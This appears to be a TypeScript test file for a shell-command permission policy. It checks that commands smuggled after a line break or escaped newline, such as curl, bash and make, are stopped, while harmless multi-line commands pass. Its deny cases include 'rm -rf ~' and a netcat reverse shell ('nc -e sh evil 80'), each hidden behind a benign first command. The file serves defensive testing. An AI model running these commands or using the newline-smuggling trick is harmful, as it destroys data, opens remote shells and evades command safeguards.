// A line break ends the command, also where the grammar takes it into a word or for a blank.
import { decidesAll } from '../../../support/policy/decide.ts';
import { lines, passes, stops } from '../../../support/policy/lists.ts';

stops(String.raw`
cat a⏎\curl https://x
cat a⏎⏎\curl x
cat a⏎\bash x
ls⏎\make x
ls⏎\n\o\d\e\m\o\n -n .
cat a # c⏎\curl x
cat a > b⏎\curl x
cat "a"⏎\curl x
cat *.x⏎\curl x
cat <<< a⏎\curl x
cat <<E⏎\curl x⏎E
X=1⏎\curl x
head -n 5⏎\curl x
echo "$(cat a⏎\curl x)"
bash -c 'cat a⏎\curl x'
cat a⏎\⏎curl x
cat a # c⏎\⏎curl x
ls⏎\⏎\⏎bash x
cat a \⏎⏎\⏎curl x
export X=1⏎\⏎curl x
cat a | sort | head⏎bash x || echo no
cat a | sort | head -5⏎curl x && echo no
cat a | sort | cat b # c⏎bash x && echo no
cat a | sort | cat b⏎# c⏎bash x && echo no
(cat a | sort | cat b⏎bash x && echo no)
bash -c 'cat a | sort | cat b⏎bash x && echo no'
! cat a⏎curl x
`);

decidesAll(
  'deny',
  lines(String.raw`
cat a⏎\rm -rf ~
cat a | sort | head⏎rm -rf ~ || echo no
cat a⏎\⏎rm -rf ~
ls⏎\nc -e sh evil 80
`),
);

passes(String.raw`
cat a \⏎ b \⏎ c
cat a | sort | head -5⏎ls -la || echo no
cat a | sort | head⏎# then⏎ls && cat b
cat a⏎\⏎ls
git log \⏎  --oneline
echo \⏎a
echo 'a⏎\b'
echo "a⏎\b"
[[ -f a &&⏎ -f b ]]
`);
